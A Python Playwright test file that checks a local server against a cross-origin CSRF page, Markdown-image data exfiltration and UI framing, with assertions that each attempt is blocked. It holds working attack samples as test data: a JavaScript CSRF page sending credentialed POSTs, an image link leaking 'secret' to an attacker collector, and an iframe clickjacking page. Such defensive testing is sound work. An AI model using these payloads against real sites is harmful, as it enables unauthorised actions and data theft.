"""Attacks from a real Chromium: a page on another loopback port drives the server (CSRF), a
Markdown image in research.md sends data out, a page frames the UI.

The attacker's site is `http://127.0.0.1:<other port>`: another origin, but the same site as
the server, so a `SameSite=Strict` session cookie still goes along with its requests.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import httpx2
import pytest
from playwright.sync_api import Browser, Page, expect

from api.chromium import chromium
from api.server import Server, make_git_repo

from .attacker import AttackerSite

TOKEN = "browser-token-51c2"
CSRF_PAGE = """<!doctype html><title>cute cats</title>
<form id="f" method="post" action="{victim}/api/projects/{project}/phases/research/start"></form>
<script>
const start = "{victim}/api/projects/{project}/phases/research/start";
const legacy = "{victim}/agents/research/start";
const opts = {{method: "POST", mode: "no-cors", credentials: "include"}};
fetch(start, opts)
  .then(() => fetch(legacy, {{...opts, headers: {{"Content-Type": "text/plain"}},
                             body: JSON.stringify({{project_id: "{project}"}})}}))
  .catch(() => null)
  .then(() => {{ document.title = "fetched"; document.getElementById("f").submit(); }});
</script>"""
FRAME_PAGE = '<!doctype html><title>frame</title><iframe src="{victim}/"></iframe>'


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as launched:
        yield launched


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    context = browser.new_context()
    opened = context.new_page()
    opened.set_default_timeout(15_000)
    yield opened
    context.close()


@pytest.fixture(scope="module")
def victim(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    running = Server(tmp_path_factory.mktemp("victim"), allow_scripted=False)
    yield running
    running.stop()


@pytest.fixture(scope="module")
def guarded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    running = Server(tmp_path_factory.mktemp("guarded"), token=TOKEN)
    yield running
    running.stop()


def _new_project(server: Server, project_id: str, repo: Path, token: str | None = None) -> None:
    headers = {"Authorization": f"Bearer {token}"} if token else {}
    body = {"project_id": project_id, "feature_request": "x", "repositories": [{"url": str(repo)}]}
    with server.client(headers=headers) as client:
        client.post("/projects/initialize", json=body).raise_for_status()


def _tasks(server: Server, project_id: str, token: str | None = None) -> list[object]:
    headers = {"Authorization": f"Bearer {token}"} if token else {}
    with server.client(headers=headers) as client:
        tasks: list[object] = client.get(f"/api/projects/{project_id}/tasks").json()
    return tasks


def _attack(page: Page, server: Server, project_id: str) -> None:
    """Open the attacker's page; wait until its fetches ran and its form was submitted."""
    html = CSRF_PAGE.format(victim=server.url, project=project_id)
    with AttackerSite({"/": html}) as site:
        with page.expect_response(
            lambda r: r.url.endswith("/phases/research/start") and r.request.is_navigation_request()
        ) as posted:
            page.goto(site.url + "/")
        assert posted.value.status == 403
        assert posted.value.request.headers.get("origin") == site.url


def test_a_page_on_another_port_cannot_start_work(
    page: Page, victim: Server, tmp_path: Path
) -> None:
    _new_project(victim, "csrf-1", make_git_repo(tmp_path / "repo"))
    _attack(page, victim, "csrf-1")
    assert _tasks(victim, "csrf-1") == []


def test_a_signed_in_browser_is_not_driven_by_another_port(
    page: Page, guarded: Server, tmp_path: Path
) -> None:
    _new_project(guarded, "csrf-2", make_git_repo(tmp_path / "repo"), token=TOKEN)
    page.goto(guarded.url + "/projects/csrf-2")
    page.get_by_label("API token").fill(TOKEN)
    page.get_by_role("button", name="Sign in").click()
    expect(page.get_by_role("heading", name="x")).to_be_visible()  # back on the project page
    [cookie] = page.context.cookies(guarded.url)
    assert cookie["httpOnly"] and cookie["sameSite"] == "Strict"
    _attack(page, guarded, "csrf-2")
    assert _tasks(guarded, "csrf-2", token=TOKEN) == []
    page.goto(guarded.url + "/projects/csrf-2")  # the user's own clicks still work
    page.get_by_role("button", name="Start research").click()
    expect(page.get_by_role("status")).to_contain_text("Started research")
    page.context.clear_cookies()  # the session ends: the next action asks to sign in again
    page.get_by_role("button", name="Save model", exact=True).click()
    expect(page.get_by_role("heading", name="Sign in")).to_be_visible()
    page.get_by_label("API token").fill(TOKEN)
    page.get_by_role("button", name="Sign in").click()
    expect(page).to_have_url(guarded.url + "/projects/csrf-2")
    page.get_by_role("button", name="Sign out").click()
    expect(page.get_by_role("heading", name="Sign in")).to_be_visible()
    assert page.context.cookies(guarded.url) == []


def test_a_markdown_image_sends_nothing_out(page: Page, victim: Server, tmp_path: Path) -> None:
    _new_project(victim, "csp-1", make_git_repo(tmp_path / "repo"))
    violations: list[str] = []
    page.on("console", lambda message: violations.append(message.text))
    with AttackerSite() as collector:
        research = f"# Research\n\n![x]({collector.url}/leak?d=secret)\n"
        with httpx2.Client(base_url=victim.url) as client:
            client.put("/api/projects/csp-1/documents/research", json={"content": research})
        response = page.goto(victim.url + "/projects/csp-1")
        assert response is not None
        expect(page.locator(f'.rendered img[src^="{collector.url}/leak"]')).to_have_count(1)
        page.wait_for_load_state("networkidle")
        assert collector.requests == []
    policy = response.headers["content-security-policy"]
    assert "img-src 'self' data:" in policy and "frame-ancestors 'none'" in policy
    assert any("Content Security Policy" in text for text in violations), violations


def test_no_page_can_frame_the_ui(page: Page, victim: Server) -> None:
    with AttackerSite({"/": FRAME_PAGE.format(victim=victim.url)}) as site:
        response_seen: list[int] = []
        page.on(
            "response",
            lambda r: response_seen.append(r.status) if r.url == victim.url + "/" else None,
        )
        page.goto(site.url + "/")
        page.wait_for_load_state("networkidle")
        [frame] = [f for f in page.frames if f != page.main_frame]
        assert response_seen == [200]  # the UI answered, and the browser refused to show it
        assert frame.locator("text=New project").count() == 0
